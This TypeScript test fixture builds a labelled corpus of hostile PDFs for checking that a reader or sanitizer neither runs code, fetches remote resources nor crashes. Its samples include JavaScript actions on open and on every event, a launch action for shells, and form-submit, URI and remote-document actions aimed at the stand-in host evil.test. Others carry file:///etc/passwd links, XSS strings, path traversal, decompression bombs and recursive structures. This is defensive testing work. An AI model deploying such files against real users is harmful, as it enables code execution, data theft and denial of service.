import { deflateSync } from 'node:zlib'
import { manyPages, onePage, type PdfObject, plainContent, writePdf } from './pdf-writer.ts'

/** The script that each file would run if any of its content were executed. */
const script = "window.__ran=1;try{app.alert('ran')}catch(e){};fetch('https://evil.test/');eval('window.__ran=1')"
const js = `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`
const uri = '<< /S /URI /URI (https://evil.test/uri) >>'
const whole = '/Rect [0 0 612 792] /F 4'

/** A page covered by a single annotation. */
const annotated = (annotation: string, more: PdfObject[] = []) =>
  onePage({ page: `/Annots [<< /Type /Annot ${whole} ${annotation} >>]`, more })

/** Every event of a page that can trigger an action. */
const triggers = [
  'O',
  'C',
  'PO',
  'PC',
  'PV',
  'PI',
  'E',
  'X',
  'D',
  'U',
  'Fo',
  'Bl',
  'K',
  'F',
  'V',
  'WC',
  'WS',
  'DS',
  'WP',
  'DP',
]
const onAll = `<< ${triggers.map((trigger) => `/${trigger} ${js}`).join(' ')} >>`

const picture = (entries: string, stream: Buffer | string): Buffer =>
  onePage({
    resources: '/XObject << /Im 6 0 R >>',
    content: { entries: '', stream: `${plainContent} q 200 0 0 200 72 400 cm /Im Do Q` },
    more: [{ entries: `/Type /XObject /Subtype /Image ${entries}`, stream }],
  })
const grey = '/ColorSpace /DeviceGray /BitsPerComponent 8'

const font = (dictionary: string, more: PdfObject[] = []) =>
  onePage({
    resources: '/F2',
    content: { entries: '', stream: `${plainContent} BT /F2 40 Tf 72 500 Td (glyphs ABC) Tj ET` },
    more: [`<< /Type /Font ${dictionary} >>`, ...more],
  })
const described = (file: string) =>
  '<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1000 1000] ' +
  `/ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 ${file} 8 0 R >>`
const widths = `/FirstChar 32 /LastChar 126 /Widths [${'500 '.repeat(95)}]`
/** Meaningless bytes, the same on every call. */
const noise = (length: number) =>
  Buffer.from(Array.from({ length }, (_, at) => (at * 7919 + (at >> 3) * 104_729) % 256))

const acting: Record<string, Buffer> = {
  'JavaScript when opened': onePage({ catalog: `/OpenAction ${js}` }),
  'JavaScript at every event': onePage({ catalog: `/AA ${onAll}`, page: `/AA ${onAll}` }),
  'JavaScript by name': onePage({ catalog: `/Names << /JavaScript << /Names [(a) ${js} (b) ${js}] >> >>` }),
  'JavaScript in a chain of actions': onePage({
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${js} << /S /Named /N /Print /Next ${js} >>] >>`,
  }),
  'a program to be launched': onePage({
    catalog: '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> /Unix << /F (xterm) >> >>',
  }),
  'an address to be opened': onePage({ catalog: `/OpenAction ${uri} /URI << /Base (https://evil.test/) >>` }),
  'a page that is all a link': annotated(`/Subtype /Link /A ${uri}`),
  'a link of script': annotated('/Subtype /Link /A << /S /URI /URI (javascript:window.__ran=1) >>'),
  'a link to a file': annotated('/Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >>'),
  'a link that runs': annotated(`/Subtype /Link /A ${js} /AA ${onAll}`),
  'another document to go to': onePage({
    catalog:
      '/OpenAction << /S /GoToR /F << /Type /Filespec /F (\\\\\\\\evil.test\\\\share\\\\x.pdf) >> /D [0 /Fit] /NewWindow true >>',
  }),
  'an embedded document to go to': onePage({
    catalog: '/OpenAction << /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>',
  }),
  'a form that submits itself': onePage({
    catalog: `/AcroForm << /Fields [6 0 R] /NeedAppearances true /CO [6 0 R] >>`,
    page: '/Annots [6 0 R]',
    more: [
      `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) ${whole} /MK << /CA (Press) >>
        /A << /S /SubmitForm /F << /FS /URL /F (https://evil.test/form) >> /Flags 4 >> /AA ${onAll} >>`,
    ],
  }),
  'a text field that computes': onePage({
    catalog: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] /NeedAppearances true /DA (/F1 12 Tf) >>',
    page: '/Annots [6 0 R]',
    more: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (t) /V (<img src=x onerror=window.__ran=1>) /DA (/F1 12 Tf 0 g) ${whole} /AA ${onAll} >>`,
    ],
  }),
  'data to be imported': onePage({ catalog: '/OpenAction << /S /ImportData /F (https://evil.test/data.fdf) >>' }),
  'an embedded file': onePage({
    catalog: '/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /PageMode /UseAttachments',
    page: `/Annots [<< /Type /Annot /Subtype /FileAttachment ${whole} /FS 6 0 R >>]`,
    more: [
      '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
      { entries: '/Type /EmbeddedFile', stream: 'MZ evil' },
    ],
  }),
  'a form of XFA': onePage({
    catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
    more: [
      {
        entries: '',
        stream: `<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
          <subform name="a" layout="tb"><pageSet><pageArea><contentArea w="500pt" h="700pt"/></pageArea></pageSet>
          <field name="b" w="100pt" h="20pt"><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event></field>
          <draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="https://evil.test/">x</a><img src="https://evil.test/i.png"/></body></exData></value></draw>
          </subform></template></xdp:xdp>`,
      },
    ],
  }),
  'a film from elsewhere': annotated(
    `/Subtype /Screen /A << /S /Rendition /OP 0 /AN 3 0 R /JS (${script.replace(/[()]/g, '')}) /R << /S /MR /C << /S /MCD /CT (video/mp4)
      /D << /FS /URL /F (https://evil.test/film.mp4) >> >> >> >>`,
  ),
  'rich media': annotated(
    `/Subtype /RichMedia /RichMediaSettings << /Activation << /Condition /PV >> >>
      /RichMediaContent << /Assets << /Names [(a.swf) << /F (https://evil.test/a.swf) >>] >> >>`,
  ),
  'a sound, a film and a three-dimensional scene': onePage({
    page: `/Annots [<< /Subtype /Sound ${whole} /Sound 6 0 R >> << /Subtype /Movie ${whole} /Movie << /F (https://evil.test/m) >> /A true >>
      << /Subtype /3D ${whole} /3DD 6 0 R /3DA << /A /PV >> >>]`,
    more: [{ entries: `/Type /3D /Subtype /U3D /OnInstantiate 6 0 R /F (https://evil.test/sound)`, stream: script }],
  }),
}

const drawn: Record<string, Buffer> = {
  'pictures and streams from elsewhere': onePage({
    resources: '/XObject << /Im 6 0 R >>',
    content: { entries: '/F << /FS /URL /F (https://evil.test/content) >>', stream: `${plainContent} /Im Do` },
    more: [
      {
        entries: `/Type /XObject /Subtype /Image /Width 8 /Height 8 ${grey} /F (https://evil.test/i.png) /FFilter /DCTDecode`,
        stream: '',
      },
    ],
  }),
  'a JBIG2 of noise': picture(
    `/Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode`,
    noise(600),
  ),
  'a JBIG2 that asks for everything': picture(
    '/Width 65535 /Height 65535 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode',
    Buffer.from('00000000300001000000130000ffff0000ffff00000000000000000000000000000126000100000015ffffffff', 'hex'),
  ),
  'a JPX of noise': picture(`/Width 64 /Height 64 ${grey} /Filter /JPXDecode`, noise(600)),
  'a JPX that asks for everything': picture(
    '/Width 65535 /Height 65535 /Filter /JPXDecode',
    Buffer.from(
      'ff4fff51002f0000ffffffffffffffff000000000000000000000001000000010000000000000000000307010107010107010100ff52000c00000001000504040001ff5c0004404040ff90000a0000000000000001ff93',
      'hex',
    ),
  ),
  'a JPEG of noise': picture(
    `/Width 64 /Height 64 ${grey} /Filter /DCTDecode`,
    Buffer.concat([Buffer.from('ffd8ffc0', 'hex'), noise(600)]),
  ),
  'a fax of noise': picture(
    '/Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 >>',
    noise(2000),
  ),
  'a picture of more pixels than there is memory': picture(`/Width 2000000000 /Height 2000000000 ${grey}`, 'x'),
  'a font whose matrix is code': font(
    `/Subtype /Type1 /BaseFont /Evil ${widths} /FontDescriptor 7 0 R /FontMatrix [1 2 3 4 5 (0\\); window.__ran=1; //)]`,
    [described('/FontFile'), { entries: '/Length1 40 /Length2 500 /Length3 0', stream: noise(540) }],
  ),
  'a Type 1 font of noise': font(`/Subtype /Type1 /BaseFont /Evil ${widths} /FontDescriptor 7 0 R`, [
    described('/FontFile'),
    {
      entries: '/Length1 60 /Length2 600 /Length3 0',
      stream: Buffer.concat([
        Buffer.from('%!PS-AdobeFont-1.0: Evil\n/FontMatrix [0 0 0 0 0 0] def\neexec\n'),
        noise(600),
      ]),
    },
  ]),
  'a TrueType font of noise': font(`/Subtype /TrueType /BaseFont /Evil ${widths} /FontDescriptor 7 0 R`, [
    described('/FontFile2'),
    {
      entries: '',
      stream: Buffer.concat([Buffer.from('00010000ffff00800003007067 6c7966'.replace(' ', ''), 'hex'), noise(4000)]),
    },
  ]),
  'a CFF font of noise': font(`/Subtype /Type1 /BaseFont /Evil ${widths} /FontDescriptor 7 0 R`, [
    described('/FontFile3'),
    { entries: '/Subtype /Type1C', stream: Buffer.concat([Buffer.from('0100040100010101', 'hex'), noise(2000)]) },
  ]),
  'a font that draws itself in itself': font(
    `/Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 /Widths [1]
      /Encoding << /Differences [65 /A] >> /CharProcs << /A 7 0 R >> /Resources << /Font << /F2 6 0 R >> >>`,
    [{ entries: '', stream: '1 0 d0 BT /F2 1 Tf (AAAA) Tj ET' }],
  ),
  'a font that is its own descendant': font(
    '/Subtype /Type0 /BaseFont /Evil /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 6 0 R',
  ),
  'a font by the name of a style': font(
    `/Subtype /TrueType /BaseFont /x;background-image:url\\(https://evil.test/\\)\\"><img#20src=x#20onerror=window.__ran=1> ${widths}`,
  ),
  'a character map that names a path': font(
    '/Subtype /Type0 /BaseFont /Evil /Encoding /..#2F..#2F..#2Fsession /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Evil /CIDSystemInfo << /Registry (https://evil.test/) /Ordering (..#2F) /Supplement 0 >> >>]',
  ),
  'a form that draws itself': onePage({
    resources: '/XObject << /Fm 6 0 R >>',
    content: { entries: '', stream: `${plainContent} /Fm Do` },
    more: [
      {
        entries: '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Fm 6 0 R >> >>',
        stream: '/Fm Do /Fm Do /Fm Do',
      },
    ],
  }),
  'a pattern filled with itself': onePage({
    resources: '/Pattern << /P 6 0 R >>',
    content: { entries: '', stream: '/Pattern cs /P scn 0 0 612 792 re f' },
    more: [
      {
        entries:
          '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 0.001 0.001] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 6 0 R >> >>',
        stream: '/Pattern cs /P scn 0 0 9 9 re f',
      },
    ],
  }),
  'a mask of itself': onePage({
    resources: '/ExtGState << /G << /SMask << /S /Luminosity /G 6 0 R >> >> >>',
    content: { entries: '', stream: `/G gs ${plainContent}` },
    more: [
      {
        entries:
          '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Group << /S /Transparency /CS /DeviceGray >> /Resources << /ExtGState << /G << /SMask << /S /Luminosity /G 6 0 R >> >> >> >>',
        stream: '/G gs 0 0 100 100 re f',
      },
    ],
  }),
  'a function without an end': onePage({
    resources: '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 6 0 R >> >>',
    content: { entries: '', stream: `${plainContent} /S sh` },
    more: [
      {
        entries: '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]',
        stream: `{ ${'{ dup mul '.repeat(3000)}${'} if '.repeat(3000)} 1e308 dup mul cvi 99999999 1 roll copy }`,
      },
    ],
  }),
  'as many brackets as a stack has not': onePage({
    content: { entries: '', stream: `${plainContent} ${'['.repeat(200_000)}` },
  }),
  'dictionaries a hundred thousand deep': onePage({ page: `/X ${'<< /A '.repeat(100_000)} 1 ${'>>'.repeat(100_000)}` }),
  'a hundred megabytes of nothing': onePage({
    content: { entries: '/Filter /FlateDecode', stream: deflateSync(Buffer.alloc(100_000_000, ' ')) },
  }),
  'text that would be markup': onePage({
    catalog:
      '/Lang (en"><img src=x onerror=window.__ran=1>) /PageLabels << /Nums [0 << /P (<script>window.__ran=1</script>) >>] >> /Outlines 6 0 R',
    content: {
      entries: '',
      stream:
        'BT /F1 12 Tf 72 700 Td (<script>window.__ran=1</script>) Tj 0 -20 Td (<img src=x onerror=window.__ran=1>) Tj /Span << /ActualText (<svg onload=window.__ran=1>) >> BDC 0 -20 Td (javascript:window.__ran=1) Tj EMC ET',
    },
    more: [
      '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
      `<< /Title (<img src=x onerror=window.__ran=1>) /Parent 6 0 R /A ${js} >>`,
      '<< /Title (<script>window.__ran=1</script>) /Author (<img src=x onerror=window.__ran=1>) >>',
    ],
    trailer: '/Info 8 0 R',
  }),
}

const broken: Record<string, Buffer> = {
  'no bytes behind its first line': Buffer.from('%PDF-1.7\n'),
  'a file that was cut': onePage({}).subarray(0, 300),
  'noise behind a first line': Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(20_000)]),
  'a page tree of a billion pages': writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
  ]),
  'a page tree that is its own child': writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 5 >>',
  ]),
  'a page tree ten thousand deep': writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...Array.from({ length: 10_000 }, (_, at) => `<< /Type /Pages /Kids [${at + 3} 0 R] /Count 1 >>`),
    '<< /Type /Page /MediaBox [0 0 612 792] >>',
  ]),
  'a catalog of itself': writePdf(['1 0 R']),
  'a length that is itself': onePage({ content: { entries: '/Length 4 0 R', stream: plainContent } }),
  'a list of objects that follows itself': Buffer.concat([
    onePage({ trailer: '/Prev 0' }),
    Buffer.from('startxref\n9\n%%EOF'),
  ]),
  'pages of no size, of endless size, and askew': onePage({
    page: '/MediaBox [0 0 1e30 -1e30] /CropBox [0 0 0 0] /Rotate 45 /UserUnit 1e9',
  }),
  'an encryption that is none': onePage({
    trailer: '/Encrypt << /Filter /Standard /V 9 /R 9 /O (x) /U (x) /P -1 >> /ID [(a) (b)]',
  }),
  'objects that hold each other': writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    { entries: '/Type /ObjStm /N 1 /First 4 /Extends 2 0 R', stream: '2 0 2 0 R' },
  ]),
  'a page of HTML before the PDF': Buffer.concat([Buffer.from('<html><script>window.__ran=1</script>\n'), onePage({})]),
  'a thousand pages that all run': manyPages(1000, (page) => `Page ${page + 1}`),
}

/** PDFs that try to run code, load resources, navigate, exhaust memory or crash the reader, by what they try. */
export const hostilePdfs: Readonly<Record<string, Buffer>> = { ...acting, ...drawn, ...broken }
